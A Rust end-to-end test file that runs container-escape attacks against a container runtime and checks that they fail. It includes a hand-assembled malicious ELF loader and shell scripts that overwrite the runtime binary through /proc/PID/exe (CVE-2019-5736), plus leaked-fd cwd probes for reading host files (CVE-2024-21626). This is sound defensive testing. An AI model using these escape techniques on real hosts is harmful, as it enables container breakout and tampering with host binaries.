//! End-to-end tests that run the classic container-escape attacks against
//! `husk-runtime` and check that they fail:
//!
//! - overwriting the runtime's binary through `/proc/PID/exe` (the
//!   CVE-2019-5736 class), at `run` and at `exec` time, with a positive
//!   control showing the attack machinery does overwrite an ordinary binary;
//! - a process.cwd (or `exec --cwd`) naming a leaked runtime fd, and fds
//!   leaked into the container (the CVE-2024-21626 class);
//! - a mount destination swapped to a symlink that leads out of the rootfs,
//!   raced and planted (the CVE-2021-30465 class);
//! - maskedPaths and readonlyPaths of the default spec, rootful and
//!   rootless;
//! - mount, umount, unshare and nsenter from inside a default container.
//!
//! Every attack prints what it tried, and the tests check those lines, so a
//! test cannot pass because the attack never ran.

use std::fs;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use husk_tests::bundle::{
    runtime_binary, status_timeout, unique, Bundle, IdMapping, Output, Runtime, RUNTIME_BIN,
};
use husk_tests::rootless::rootless_test;
use serde_json::{json, Value};
use sha2::{Digest as _, Sha256};

// ---------------------------------------------------------------------------
// Shared helpers
// ---------------------------------------------------------------------------

/// A private copy of the runtime binary in its own 0755 directory: the
/// attacks target it, so a successful one cannot break other tests.
struct PrivateBinary {
    _dir: tempfile::TempDir,
    path: PathBuf,
}

impl PrivateBinary {
    fn new() -> PrivateBinary {
        let dir = tempfile::Builder::new()
            .prefix("husk-esc-bin-")
            .tempdir()
            .unwrap();
        fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let path = dir.path().join(RUNTIME_BIN);
        fs::copy(runtime_binary(), &path).unwrap();
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        PrivateBinary { _dir: dir, path }
    }

    fn sha256(&self) -> String {
        sha256_file(&self.path)
    }
}

fn sha256_file(path: &Path) -> String {
    let bytes = fs::read(path).unwrap_or_else(|e| panic!("reading {}: {e}", path.display()));
    hex::encode(Sha256::digest(&bytes))
}

/// Polls `f` every 25 ms until it is true or `timeout` passes.
fn wait_until(timeout: Duration, mut f: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + timeout;
    loop {
        if f() {
            return true;
        }
        if Instant::now() >= deadline {
            return false;
        }
        thread::sleep(Duration::from_millis(25));
    }
}

fn read_or_empty(path: &Path) -> String {
    fs::read_to_string(path).unwrap_or_default()
}

/// Writes an executable (0755) file.
fn write_exec(path: &Path, content: &[u8]) {
    if let Some(dir) = path.parent() {
        fs::create_dir_all(dir).unwrap();
    }
    fs::write(path, content).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

/// `run -d --bundle B ID`.
fn run_detached(rt: &Runtime, b: &Bundle, id: &str) -> Output {
    let bundle = b.path().to_str().unwrap();
    rt.output_detached(&["run", "-d", "--bundle", bundle, id]).0
}

/// Creates and starts `id`, then waits for the file `ready` (a rootfs
/// path) to appear. Returns the container's pid.
fn start_ready(rt: &Runtime, b: &Bundle, id: &str, ready: &str) -> i32 {
    rt.create(b, id, &[]).ok();
    rt.output(&["start", id]).ok();
    assert!(
        wait_until(status_timeout(), || b.rootfs().join(ready).exists()),
        "container {id} never wrote /{ready}"
    );
    rt.state(id).expect("state")["pid"].as_i64().unwrap() as i32
}

/// A busybox container that loops until killed, after touching /tmp/ready.
/// It runs busybox by its full path, so tests may replace /bin/sh.
fn looping(b: &Bundle) {
    b.set_args(&[
        "/bin/busybox",
        "sh",
        "-c",
        "touch /tmp/ready; while :; do sleep 0.1; done",
    ]);
}

/// Removes the `root.readonly: false` the helpers write, giving back the
/// default spec's read-only root.
fn default_readonly_root(b: &Bundle) {
    b.edit(|c| c["root"]["readonly"] = json!(true));
}

/// The `NAME=VALUE` lines of `out`.
fn kv_lines(out: &str) -> Vec<(String, String)> {
    out.lines()
        .filter_map(|l| l.split_once('='))
        .map(|(k, v)| (k.trim().to_owned(), v.trim().to_owned()))
        .collect()
}

fn value_of<'a>(kv: &'a [(String, String)], key: &str) -> Option<&'a str> {
    kv.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_str())
}

// ---------------------------------------------------------------------------
// 1. CVE-2019-5736: overwriting the runtime binary through /proc/PID/exe
// ---------------------------------------------------------------------------

/// The dynamic loader a binary names in PT_INTERP, if any.
fn elf_interpreter(bin: &Path) -> Option<String> {
    let data = fs::read(bin).ok()?;
    if data.get(..4)? != b"\x7fELF" || data[4] != 2 {
        return None;
    }
    let u16_at = |o: usize| u16::from_le_bytes(data[o..o + 2].try_into().unwrap()) as usize;
    let u64_at = |o: usize| u64::from_le_bytes(data[o..o + 8].try_into().unwrap()) as usize;
    let (phoff, phentsize, phnum) = (u64_at(32), u16_at(54), u16_at(56));
    for i in 0..phnum {
        let ph = phoff + i * phentsize;
        let p_type = u32::from_le_bytes(data[ph..ph + 4].try_into().unwrap());
        if p_type == 3 {
            let (off, size) = (u64_at(ph + 8), u64_at(ph + 32));
            let raw = &data[off..off + size];
            let end = raw.iter().position(|&c| c == 0).unwrap_or(raw.len());
            return Some(String::from_utf8_lossy(&raw[..end]).into_owned());
        }
    }
    None
}

/// Where the attack scripts and their logs live in a rootfs.
const ATTACK_DIR: &str = "attack";
/// What a successful overwrite writes into the target binary.
const PAYLOAD: &str = "PWNED-BY-CONTAINER";

/// A hand-made x86-64 ELF meant to be planted as the container's dynamic
/// loader. A dynamically linked program started in the container loads it
/// first; it opens `/proc/self/exe` read-only (that is, the program being
/// started: fd 3, as 0-2 are stdio) and executes
/// `/bin/busybox sh /attack/held.sh`, which then tries to reopen fd 3 for
/// writing through `/proc/self/fd/3`. This is how the original exploit got
/// hold of runc's binary: if the runtime ever ran its own binary inside the
/// container, this code would run inside that process.
#[cfg(target_arch = "x86_64")]
fn evil_loader_elf() -> Vec<u8> {
    const BASE: u64 = 0x2000_0000;
    const CODE_OFF: usize = 64 + 56;
    const CODE_LEN: usize = 70;
    const DATA_OFF: usize = (CODE_OFF + CODE_LEN).div_ceil(8) * 8;
    // Strings, then the argv and envp arrays (8-byte aligned).
    let strings: [&[u8]; 5] = [
        b"/proc/self/exe\0",
        b"/bin/busybox\0",
        b"sh\0",
        b"/attack/held.sh\0",
        b"PATH=/bin:/usr/bin\0",
    ];
    let mut data = Vec::new();
    let mut addr = Vec::new();
    for s in strings {
        addr.push(BASE + (DATA_OFF + data.len()) as u64);
        data.extend_from_slice(s);
    }
    while data.len() % 8 != 0 {
        data.push(0);
    }
    let argv = BASE + (DATA_OFF + data.len()) as u64;
    for p in [addr[2], addr[3], 0] {
        data.extend_from_slice(&p.to_le_bytes());
    }
    let envp = BASE + (DATA_OFF + data.len()) as u64;
    for p in [addr[4], 0] {
        data.extend_from_slice(&p.to_le_bytes());
    }

    let mut code = Vec::new();
    let movabs = |code: &mut Vec<u8>, reg: u8, v: u64| {
        code.extend_from_slice(&[0x48, reg]);
        code.extend_from_slice(&v.to_le_bytes());
    };
    movabs(&mut code, 0xbf, addr[0]); // mov rdi, "/proc/self/exe"
    code.extend_from_slice(&[0x31, 0xf6]); // xor esi, esi  (O_RDONLY)
    code.extend_from_slice(&[0x31, 0xd2]); // xor edx, edx
    code.extend_from_slice(&[0xb8, 2, 0, 0, 0]); // mov eax, 2 (open)
    code.extend_from_slice(&[0x0f, 0x05]); // syscall
    movabs(&mut code, 0xbf, addr[1]); // mov rdi, "/bin/busybox"
    movabs(&mut code, 0xbe, argv); // mov rsi, argv
    movabs(&mut code, 0xba, envp); // mov rdx, envp
    code.extend_from_slice(&[0xb8, 59, 0, 0, 0]); // mov eax, 59 (execve)
    code.extend_from_slice(&[0x0f, 0x05]); // syscall
    code.extend_from_slice(&[0xbf, 126, 0, 0, 0]); // mov edi, 126
    code.extend_from_slice(&[0xb8, 231, 0, 0, 0]); // mov eax, 231 (exit_group)
    code.extend_from_slice(&[0x0f, 0x05]); // syscall
    assert_eq!(code.len(), CODE_LEN);

    let size = (DATA_OFF + data.len()) as u64;
    let mut v = Vec::new();
    v.extend_from_slice(&[0x7f, b'E', b'L', b'F', 2, 1, 1, 0]);
    v.extend_from_slice(&[0; 8]);
    v.extend_from_slice(&2u16.to_le_bytes()); // ET_EXEC
    v.extend_from_slice(&0x3eu16.to_le_bytes()); // x86-64
    v.extend_from_slice(&1u32.to_le_bytes());
    v.extend_from_slice(&(BASE + CODE_OFF as u64).to_le_bytes()); // entry
    v.extend_from_slice(&64u64.to_le_bytes()); // phoff
    v.extend_from_slice(&0u64.to_le_bytes()); // shoff
    v.extend_from_slice(&0u32.to_le_bytes()); // flags
    v.extend_from_slice(&64u16.to_le_bytes()); // ehsize
    v.extend_from_slice(&56u16.to_le_bytes()); // phentsize
    v.extend_from_slice(&1u16.to_le_bytes()); // phnum
    v.extend_from_slice(&[0; 6]);
    v.extend_from_slice(&1u32.to_le_bytes()); // PT_LOAD
    v.extend_from_slice(&5u32.to_le_bytes()); // R+X
    v.extend_from_slice(&0u64.to_le_bytes()); // offset
    v.extend_from_slice(&BASE.to_le_bytes()); // vaddr
    v.extend_from_slice(&BASE.to_le_bytes()); // paddr
    v.extend_from_slice(&size.to_le_bytes()); // filesz
    v.extend_from_slice(&size.to_le_bytes()); // memsz
    v.extend_from_slice(&0x1000u64.to_le_bytes()); // align
    v.extend_from_slice(&code);
    v.resize(DATA_OFF, 0);
    v.extend_from_slice(&data);
    v
}

/// Run by the planted loader with fd 3 open on the binary being started:
/// logs what fd 3 is, then tries for up to 5 s to reopen it for writing
/// (it is busy while any process still executes it) and overwrite it.
const HELD_SH: &str = r#"log=/attack/held.log
t=$(readlink /proc/self/fd/3)
echo "HELD pid=$$ fd3=$t" >> $log
i=0
while [ $i -lt 100 ]; do
  if err=$( { echo PWNED-BY-CONTAINER > /proc/self/fd/3; } 2>&1 ); then
    echo "WROTE fd3=$t tries=$i" >> $log
    exit 0
  fi
  [ $i = 0 ] && echo "BUSY fd3=$t: $err" >> $log
  usleep 50000
  i=$((i+1))
done
echo "GAVE-UP fd3=$t: $err" >> $log
"#;

/// Plants the CVE-2019-5736 kit in a rootfs: the evil loader at the path
/// the runtime binary names as its interpreter, `/attack/held.sh`,
/// `/attack/evil` (a `#!/proc/self/exe` script), `/control-target` (a copy
/// of the runtime binary, the positive control) and `/bin/sh` replaced by a
/// symlink to `/proc/self/exe`.
#[cfg(target_arch = "x86_64")]
fn plant_exe_kit(b: &Bundle, bin: &Path) {
    let rootfs = b.rootfs();
    let interp = elf_interpreter(bin).unwrap_or_else(|| {
        panic!(
            "{} names no ELF interpreter: the loader-based attack needs a dynamically \
             linked runtime",
            bin.display()
        )
    });
    write_exec(
        &rootfs.join(interp.trim_start_matches('/')),
        &evil_loader_elf(),
    );
    write_exec(&rootfs.join(ATTACK_DIR).join("held.sh"), HELD_SH.as_bytes());
    write_exec(&rootfs.join(ATTACK_DIR).join("evil"), b"#!/proc/self/exe\n");
    fs::copy(bin, rootfs.join("control-target")).unwrap();
    fs::set_permissions(
        rootfs.join("control-target"),
        fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let sh = rootfs.join("bin/sh");
    fs::remove_file(&sh).unwrap();
    std::os::unix::fs::symlink("/proc/self/exe", &sh).unwrap();
}

fn held_log(b: &Bundle) -> String {
    read_or_empty(&b.rootfs().join(ATTACK_DIR).join("held.log"))
}

/// Waits for the positive control: the loader ran in a container process
/// started from /control-target and overwrote that file.
fn assert_control_overwritten(b: &Bundle, what: &str) {
    let target = b.rootfs().join("control-target");
    let done = wait_until(Duration::from_secs(8), || {
        let log = held_log(b);
        log.contains("WROTE") || log.contains("GAVE-UP")
    });
    let log = held_log(b);
    assert!(
        done && log.contains("HELD") && log.contains("WROTE fd3=/control-target"),
        "positive control ({what}): the loader did not overwrite /control-target, so this \
         test could not detect the attack. held.log:\n{log}"
    );
    assert_eq!(
        fs::read(&target).unwrap(),
        format!("{PAYLOAD}\n").as_bytes(),
        "positive control ({what}): /control-target not overwritten"
    );
}

/// After the attacks: give a payload that got hold of the runtime binary
/// time to write, then check the binary and the attack log.
fn assert_runtime_untouched(bin: &PrivateBinary, before: &str, logs: &[(&str, String)]) {
    thread::sleep(Duration::from_millis(1500));
    let dir_name = bin
        .path
        .parent()
        .unwrap()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    for (what, log) in logs {
        for l in log.lines() {
            assert!(
                !l.contains(&dir_name) && !l.contains(RUNTIME_BIN),
                "{what}: a container process held the runtime binary: {l}\nlog:\n{log}"
            );
        }
    }
    assert_eq!(
        bin.sha256(),
        before,
        "the runtime binary {} was overwritten from a container; logs: {logs:?}",
        bin.path.display()
    );
}

/// `exec` of a container program that is the runtime's own binary again:
/// `/bin/sh` replaced by a symlink to /proc/self/exe, and a
/// `#!/proc/self/exe` script. The loader planted in the container would
/// get fd 3 on the runtime's binary if the runtime ran itself in there.
#[cfg(target_arch = "x86_64")]
#[test]
fn cve_2019_5736_exec_of_proc_self_exe_cannot_overwrite_runtime() {
    let bin = PrivateBinary::new();
    let before = bin.sha256();
    let rt = Runtime::new().with_binary(bin.path.clone());
    let b = Bundle::new("busybox", &["true"]);
    looping(&b);
    plant_exe_kit(&b, &bin.path);
    let id = unique("esc-exe");
    start_ready(&rt, &b, &id, "tmp/ready");

    // Positive control: an ordinary dynamically linked binary started by
    // exec is opened by the loader and overwritten once it stops running.
    rt.output_detached(&["exec", "-d", &id, "/control-target"])
        .0
        .ok();
    assert_control_overwritten(&b, "exec /control-target");
    let control_log = held_log(&b);

    // The attacks, detached so no host runtime process keeps the binary
    // busy while the payload retries.
    let out = rt
        .output_detached(&["exec", "-d", &id, "sh", "-c", "echo operator-shell"])
        .0;
    eprintln!("exec -d sh (sh -> /proc/self/exe): {out}");
    let pid_file = rt.scratch().join("evil.pid");
    let out = rt
        .output_detached(&[
            "exec",
            "-d",
            "--pid-file",
            pid_file.to_str().unwrap(),
            &id,
            "/attack/evil",
        ])
        .0;
    eprintln!("exec -d /attack/evil (#!/proc/self/exe): {out}");
    // And a foreground exec, as an operator would type it.
    let fg = rt.output(&["exec", &id, "sh", "-c", "echo operator-shell"]);
    eprintln!("exec sh (foreground): {fg}");
    assert!(
        !fg.stdout.contains("operator-shell"),
        "/bin/sh is a link to /proc/self/exe, yet a shell ran: {fg}"
    );
    assert!(!fg.status.success(), "{fg}");

    let log = held_log(&b);
    let attack_log = log.strip_prefix(control_log.as_str()).unwrap_or(&log);
    assert_runtime_untouched(&bin, &before, &[("exec attacks", attack_log.to_owned())]);
    if let Ok(pid) = read_or_empty(&pid_file).trim().parse::<i32>() {
        // SAFETY: kill takes integers only; the pid is the exec'd process.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
}

/// The same at `run` time: the container's own program is /bin/sh (a link
/// to /proc/self/exe) or a `#!/proc/self/exe` script.
#[cfg(target_arch = "x86_64")]
#[test]
fn cve_2019_5736_run_of_proc_self_exe_cannot_overwrite_runtime() {
    let bin = PrivateBinary::new();
    let before = bin.sha256();
    let rt = Runtime::new().with_binary(bin.path.clone());

    // Positive control: a container whose program is an ordinary
    // dynamically linked binary gets it overwritten.
    let control = Bundle::new("busybox", &["/control-target"]);
    plant_exe_kit(&control, &bin.path);
    run_detached(&rt, &control, &unique("esc-run-ctl")).ok();
    assert_control_overwritten(&control, "run /control-target");

    let via_sh = Bundle::new("busybox", &["sh", "-c", "echo operator-shell"]);
    plant_exe_kit(&via_sh, &bin.path);
    let out = run_detached(&rt, &via_sh, &unique("esc-run-sh"));
    eprintln!("run -d, program sh -> /proc/self/exe: {out}");

    let via_script = Bundle::new("busybox", &["/attack/evil"]);
    plant_exe_kit(&via_script, &bin.path);
    let script_id = unique("esc-run-script");
    let out = run_detached(&rt, &via_script, &script_id);
    eprintln!("run -d, program #!/proc/self/exe: {out}");

    let fg = Bundle::new("busybox", &["sh", "-c", "echo operator-shell"]);
    plant_exe_kit(&fg, &bin.path);
    let out = rt.run(&fg, &unique("esc-run-fg"));
    eprintln!("run, program sh -> /proc/self/exe: {out}");
    assert!(!out.stdout.contains("operator-shell"), "{out}");
    assert!(!out.status.success(), "{out}");

    assert_runtime_untouched(
        &bin,
        &before,
        &[
            ("run sh", held_log(&via_sh)),
            ("run script", held_log(&via_script)),
            ("run foreground", held_log(&fg)),
        ],
    );
    let _ = rt.output(&["delete", "--force", &script_id]);
}

/// Scans every process of the pid namespace, and for each tries to read its
/// exe link, append to it, overwrite it with dd, and hold it open to
/// reopen it for writing through /proc/self/fd once it is no longer
/// executing. Logs every step to /attack/scan.log; stops when /attack/stop
/// exists.
const SCAN_SH: &str = r#"log=/attack/scan.log
seen=" "
bb=0
round=0
attack() {
  p=$1; t=$2
  if err=$( { echo x >> "/proc/$p/exe"; } 2>&1 ); then
    echo "WROTE append pid=$p exe=$t" >> $log
  else
    echo "FAIL append pid=$p exe=$t: $err" >> $log
  fi
  if err=$(dd if=/attack/payload of="/proc/$p/exe" conv=notrunc 2>&1); then
    echo "WROTE dd pid=$p exe=$t" >> $log
  else
    echo "FAIL dd pid=$p exe=$t: $err" >> $log
  fi
  (
    exec 7< "/proc/$p/exe" || exit 1
    echo "HELD pid=$p exe=$t" >> $log
    # Stop it executing, so only the seals can refuse the reopen (pid 1
    # cannot be killed from inside its namespace).
    case "$t" in *memfd:*) [ "$p" != 1 ] && kill -9 "$p";; esac
    i=0
    while [ $i -lt 150 ]; do
      if err=$( { echo PWNED-BY-CONTAINER > /proc/self/fd/7; } 2>&1 ); then
        echo "WROTE reopen pid=$p exe=$t" >> $log
        exit 0
      fi
      usleep 20000
      i=$((i+1))
    done
    echo "FAIL reopen pid=$p exe=$t: $err" >> $log
  ) 2>/dev/null &
}
while [ ! -e /attack/stop ]; do
  round=$((round+1))
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$$" ] && continue
    if t=$(readlink "$d/exe" 2>/dev/null); then
      case "$t" in
        /bin/busybox) [ $bb = 0 ] && echo "SEEN pid=$p exe=$t" >> $log; bb=1; continue;;
      esac
      case "$seen" in *" $p:$t "*) continue;; esac
      seen="$seen$p:$t "
      echo "SEEN pid=$p exe=$t" >> $log
      attack "$p" "$t"
    elif [ -e "$d" ]; then
      case "$seen" in *" $p:denied "*) continue;; esac
      seen="$seen$p:denied "
      err=$( { exec 8< "$d/exe"; } 2>&1 )
      echo "DENIED pid=$p: $err" >> $log
      attack "$p" "(unreadable link)"
    fi
  done
  echo "ROUND $round" >> $log
done
echo "STOPPED" >> $log
"#;

fn scan_rounds(log: &str) -> usize {
    log.lines().filter(|l| l.starts_with("ROUND ")).count()
}

/// The pid a host process has in the innermost pid namespace it is in.
fn ns_pid(host_pid: i32) -> Option<i32> {
    let status = fs::read_to_string(format!("/proc/{host_pid}/status")).ok()?;
    status
        .lines()
        .find(|l| l.starts_with("NSpid:"))?
        .split_whitespace()
        .last()?
        .parse()
        .ok()
}

/// While a container is being created its init runs the runtime's binary
/// (it waits for `start` in the container's pid namespace as pid 1), and a
/// container joining that pid namespace has its init there too: a process
/// in the container scans /proc and attacks every exe link it finds,
/// before and after `start`, and while `exec` runs a `#!/proc/self/exe`
/// script. None of it reaches the runtime's binary.
#[test]
fn cve_2019_5736_runtime_processes_in_the_pid_namespace_cannot_be_opened() {
    let bin = PrivateBinary::new();
    let before = bin.sha256();
    let rt = Runtime::new().with_binary(bin.path.clone());

    let a = Bundle::new("busybox", &["/attack/evil"]);
    let attack = a.rootfs().join(ATTACK_DIR);
    write_exec(&attack.join("scan.sh"), SCAN_SH.as_bytes());
    write_exec(&attack.join("evil"), b"#!/proc/self/exe\n");
    fs::write(attack.join("payload"), PAYLOAD).unwrap();
    let a_id = unique("esc-scan");
    rt.create(&a, &a_id, &[]).ok();
    let a_pid = rt.state(&a_id).unwrap()["pid"].as_i64().unwrap() as i32;

    // B joins A's pid namespace (as pods sharing a pid namespace do); its
    // init waits for start there, running the runtime's binary.
    let b = Bundle::new("busybox", &["/attack/evil"]);
    write_exec(
        &b.rootfs().join(ATTACK_DIR).join("evil"),
        b"#!/proc/self/exe\n",
    );
    b.edit(|c| {
        for ns in c["linux"]["namespaces"].as_array_mut().unwrap() {
            if ns["type"] == "pid" {
                ns["path"] = json!(format!("/proc/{a_pid}/ns/pid"));
            }
        }
    });
    let b_id = unique("esc-scan-b");
    rt.create(&b, &b_id, &[]).ok();
    let b_pid = rt.state(&b_id).unwrap()["pid"].as_i64().unwrap() as i32;
    let b_nspid = ns_pid(b_pid).expect("NSpid of B's init");

    let log_path = attack.join("scan.log");
    rt.output_detached(&["exec", "-d", &a_id, "/bin/busybox", "sh", "/attack/scan.sh"])
        .0
        .ok();
    let log_has = |s: &str| read_or_empty(&log_path).contains(s);
    assert!(
        wait_until(Duration::from_secs(10), || scan_rounds(&read_or_empty(
            &log_path
        )) >= 2),
        "the scanner never ran: {}",
        read_or_empty(&log_path)
    );
    let denied_b = format!("DENIED pid={b_nspid}:");
    assert!(
        log_has("DENIED pid=1:") && log_has(&denied_b),
        "the scanner did not try the runtime's processes (pid 1 and {b_nspid}):\n{}",
        read_or_empty(&log_path)
    );

    // Now the programs start: both are #!/proc/self/exe scripts, which makes
    // the kernel pick whatever /proc/self/exe is at their execve as their
    // interpreter: the sealed trampoline, which refuses to be one (126).
    // B first: A's pid 1 ends its pid namespace when it exits.
    rt.output(&["start", &b_id]).ok();
    rt.output(&["start", &a_id]).ok();
    assert_eq!(
        rt.wait_status(&a_id, "stopped", husk_tests::bundle::status_timeout())
            .as_deref(),
        Some("stopped"),
        "the #!/proc/self/exe program should fail at once"
    );
    fs::write(attack.join("stop"), "").unwrap();
    wait_until(Duration::from_secs(5), || log_has("STOPPED"));
    let log = read_or_empty(&log_path);
    eprintln!("scan.log:\n{log}");
    let _ = rt.output(&["delete", "--force", &b_id]);
    let _ = rt.output(&["delete", "--force", &a_id]);

    assert!(
        log.lines()
            .any(|l| l.starts_with("SEEN ") || l.starts_with("DENIED ")),
        "the scanner tried no exe link at all:\n{log}"
    );
    for l in log.lines() {
        assert!(!l.starts_with("WROTE"), "attack succeeded: {l}\n{log}");
        assert!(
            !(l.starts_with("SEEN") && l.contains(RUNTIME_BIN)),
            "a container process could read the runtime's exe link: {l}\n{log}"
        );
    }
    assert_eq!(
        bin.sha256(),
        before,
        "runtime binary overwritten from the container:\n{log}"
    );
}

// ---------------------------------------------------------------------------
// 2. CVE-2024-21626: leaked fds and a cwd through them
// ---------------------------------------------------------------------------

/// A host file outside the rootfs, with a unique secret: a process whose
/// cwd is outside its root reaches it with enough `..`.
struct HostSecret {
    path: PathBuf,
    secret: String,
}

impl HostSecret {
    fn in_bundle(b: &Bundle) -> HostSecret {
        let secret = unique("HOST-SECRET");
        let path = b.path().join("host-secret");
        fs::write(&path, &secret).unwrap();
        HostSecret { path, secret }
    }

    /// A script that prints its cwd and tries to read the secret through
    /// `..` from there, printing `ATTEMPTED` so it shows it ran.
    fn probe(&self) -> String {
        let up = "../".repeat(24);
        format!(
            "echo ATTEMPTED; echo \"PWD=$(pwd)\"; ls -a {up} 2>&1 | head -40; \
             cat {up}{} 2>&1; true",
            self.path.display().to_string().trim_start_matches('/'),
        )
    }

    fn leaked(&self, out: &str) -> bool {
        out.contains(&self.secret)
    }
}

/// A cwd naming a leaked fd must be refused (the error names the cwd) or
/// leave the process inside its root.
fn check_cwd_outcome(what: &str, out: &Output, secret: &HostSecret) -> &'static str {
    assert!(
        !secret.leaked(&out.stdout) && !secret.leaked(&out.stderr),
        "{what}: the container read a host file through its cwd: {out}"
    );
    if out.stdout.contains("ATTEMPTED") {
        assert!(
            !out.stdout.contains("PWD=(unreachable)"),
            "{what}: cwd outside the root: {out}"
        );
        "ran inside the root"
    } else {
        assert!(
            out.stderr.to_lowercase().contains("cwd"),
            "{what}: refused, but the error does not mention the cwd: {out}"
        );
        "refused"
    }
}

#[test]
fn cve_2024_21626_process_cwd_through_proc_self_fd_at_run_and_start() {
    let rt = Runtime::new();
    let b = Bundle::new("busybox", &["true"]);
    let secret = HostSecret::in_bundle(&b);
    b.set_args(&["sh", "-c", &secret.probe()]);
    let mut outcomes = Vec::new();
    for n in 3..=12 {
        let cwd = format!("/proc/self/fd/{n}");
        b.edit(|c| c["process"]["cwd"] = json!(cwd));
        let out = rt.run(&b, &unique("esc-cwd"));
        outcomes.push(format!(
            "run {cwd}: {}",
            check_cwd_outcome(&format!("run cwd={cwd}"), &out, &secret)
        ));

        // create + start: init also holds the exec fifo while it waits.
        let id = unique("esc-cwd-cs");
        let bundle = b.path().to_str().unwrap();
        let (created, out_path, err_path) =
            rt.output_detached(&["create", "--bundle", bundle, &id]);
        if created.status.success() {
            let started = rt.output(&["start", &id]);
            rt.wait_status(&id, "stopped", status_timeout());
            let out = Output {
                status: started.status,
                stdout: read_or_empty(&out_path),
                stderr: format!("{}{}", read_or_empty(&err_path), started.stderr),
            };
            let _ = rt.output(&["delete", "--force", &id]);
            let verdict = check_cwd_outcome(&format!("create/start cwd={cwd}"), &out, &secret);
            outcomes.push(format!("create+start {cwd}: {verdict}"));
        } else {
            outcomes.push(format!(
                "create {cwd}: {}",
                check_cwd_outcome(&format!("create cwd={cwd}"), &created, &secret)
            ));
        }
    }
    eprintln!("{}", outcomes.join("\n"));
    assert_eq!(outcomes.len(), 20);
}

#[test]
fn cve_2024_21626_exec_cwd_through_proc_self_fd() {
    let rt = Runtime::new();
    let b = Bundle::new("busybox", &["true"]);
    looping(&b);
    let secret = HostSecret::in_bundle(&b);
    let id = unique("esc-execcwd");
    start_ready(&rt, &b, &id, "tmp/ready");
    let probe = secret.probe();
    let mut outcomes = Vec::new();
    for n in 3..=12 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = rt.output(&["exec", "--cwd", &cwd, &id, "sh", "-c", &probe]);
        outcomes.push(format!(
            "exec --cwd {cwd}: {}",
            check_cwd_outcome(&format!("exec --cwd {cwd}"), &out, &secret)
        ));
        // The same with the process given as a file.
        let process = rt.scratch().join(format!("process-{n}.json"));
        let mut p = b.config()["process"].clone();
        p["cwd"] = json!(cwd);
        p["args"] = json!(["sh", "-c", probe]);
        fs::write(&process, p.to_string()).unwrap();
        let out = rt.output(&["exec", "--process", process.to_str().unwrap(), &id]);
        outcomes.push(format!(
            "exec --process (cwd {cwd}): {}",
            check_cwd_outcome(&format!("exec --process cwd={cwd}"), &out, &secret)
        ));
    }
    eprintln!("{}", outcomes.join("\n"));
}

/// Parses `ls -l /proc/self/fd` output into (fd, target) pairs.
fn ls_fds(out: &str) -> Vec<(u32, String)> {
    out.lines()
        .filter(|l| l.starts_with('l'))
        .filter_map(|l| {
            let (left, target) = l.split_once(" -> ").unwrap_or((l, ""));
            let fd = left.split_whitespace().last()?.parse().ok()?;
            Some((fd, target.trim().to_owned()))
        })
        .collect()
}

/// The lines between the marker line `--tag--` and the next marker line.
fn section(out: &str, tag: &str) -> String {
    let marker = format!("--{tag}--");
    out.lines()
        .skip_while(|l| l.trim() != marker)
        .skip(1)
        .take_while(|l| !(l.starts_with("--") && l.ends_with("--") && !l.contains(' ')))
        .map(|l| format!("{l}\n"))
        .collect()
}

/// Checks the fds a container process sees: `ls -l /proc/self/fd` may show
/// 0-2 and ls's own directory fd (3); the shell's table, listed by an `ls`
/// of `/proc/$$/fd`, is exactly 0-2.
fn assert_only_stdio(what: &str, out: &str) {
    let own = ls_fds(&section(out, "ls"));
    let fds: Vec<u32> = own.iter().map(|(fd, _)| *fd).collect();
    assert!(
        fds.starts_with(&[0, 1, 2]),
        "{what}: ls listed {own:?}:\n{out}"
    );
    for (fd, target) in &own {
        let ok = *fd <= 2 || (*fd == 3 && (target.is_empty() || target.ends_with("/fd")));
        assert!(ok, "{what}: leaked fd {fd} -> {target}\n{out}");
    }
    let shell: Vec<u32> = ls_fds(&section(out, "sh"))
        .iter()
        .map(|(fd, _)| *fd)
        .collect();
    assert_eq!(shell, [0, 1, 2], "{what}: the shell's fds\n{out}");
}

const FD_PROBE: &str =
    "echo --ls--; ls -l /proc/self/fd; echo --sh--; ls -l /proc/$$/fd; echo --end--";

#[test]
fn cve_2024_21626_no_runtime_fds_leak_into_the_container() {
    let rt = Runtime::new();
    let b = Bundle::new("busybox", &["sh", "-c", FD_PROBE]);
    // run (foreground)
    let out = rt.run(&b, &unique("esc-fds"));
    out.ok();
    assert_only_stdio("run", &out.stdout);

    // create + start: init held the exec fifo while waiting.
    let id = unique("esc-fds-cs");
    let bundle = b.path().to_str().unwrap();
    let (created, out_path, _) = rt.output_detached(&["create", "--bundle", bundle, &id]);
    created.ok();
    rt.output(&["start", &id]).ok();
    rt.wait_status(&id, "stopped", status_timeout());
    assert_only_stdio("create+start", &read_or_empty(&out_path));
    rt.output(&["delete", &id]).ok();

    // exec, foreground and detached.
    looping(&b);
    let id = unique("esc-fds-exec");
    start_ready(&rt, &b, &id, "tmp/ready");
    let out = rt.output(&["exec", &id, "sh", "-c", FD_PROBE]);
    out.ok();
    assert_only_stdio("exec", &out.stdout);
    let probe_file = format!("( {FD_PROBE} ) > /tmp/exec-d.out 2>&1");
    rt.output_detached(&["exec", "-d", &id, "sh", "-c", &probe_file])
        .0
        .ok();
    let path = b.rootfs().join("tmp/exec-d.out");
    assert!(
        wait_until(status_timeout(), || read_or_empty(&path)
            .contains("--end--")),
        "exec -d never wrote its fds"
    );
    assert_only_stdio("exec -d", &read_or_empty(&path));
}

#[test]
fn cve_2024_21626_no_runtime_fds_leak_rootless() {
    let user = rootless_test("cve_2024_21626_no_runtime_fds_leak_rootless");
    let rt = Runtime::rootless(&user);
    let b = Bundle::rootless(&user, IdMapping::Multi, "busybox", &["sh", "-c", FD_PROBE]);
